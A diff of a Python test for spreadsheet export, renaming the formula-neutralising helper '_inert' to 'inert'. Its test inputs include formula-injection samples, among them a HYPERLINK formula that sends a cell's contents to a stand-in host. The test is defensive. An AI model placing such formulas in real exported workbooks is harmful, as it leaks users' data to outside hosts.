@@ -11,7 +11,8 @@ from sqlmodel import Session
 from collectors.demo import generate_demo_estate
 from inventory import Snapshot, ensure_default_catalogue, session_scope, upsert_observations
 from parcimonie.planning import PlanRequest, load_estate, run_plan
-from parcimonie.planning.workbook import _inert, workbook_bytes
+from parcimonie.planning.workbook import workbook_bytes
+from parcimonie.planning.workbook_cells import inert
 from tests.conftest import TODAY
 
 #: The only formulas the workbook writes: its own totals (sums and differences of its own cells).
@@ -21,9 +22,9 @@ FORMULAS = ('=HYPERLINK("http://e/?"&B2,"x")', "+1", "-1+2", "@SUM(A1)", "\t=1+1
 
 
 def test_inert_text() -> None:
-    assert [_inert(v) for v in FORMULAS[:6]] == ["'" + v for v in FORMULAS[:6]]
-    assert _inert("vm-01") == "vm-01" and _inert(3) == 3 and _inert(None) is None
-    assert _inert("a\x01b") == "a\ufffdb"  # a character a workbook cannot hold does not fail the export
+    assert [inert(v) for v in FORMULAS[:6]] == ["'" + v for v in FORMULAS[:6]]
+    assert inert("vm-01") == "vm-01" and inert(3) == 3 and inert(None) is None
+    assert inert("a\x01b") == "a\ufffdb"  # a character a workbook cannot hold does not fail the export
 
 
 def test_formula_names_stay_text(sqlite_engine: Engine) -> None:
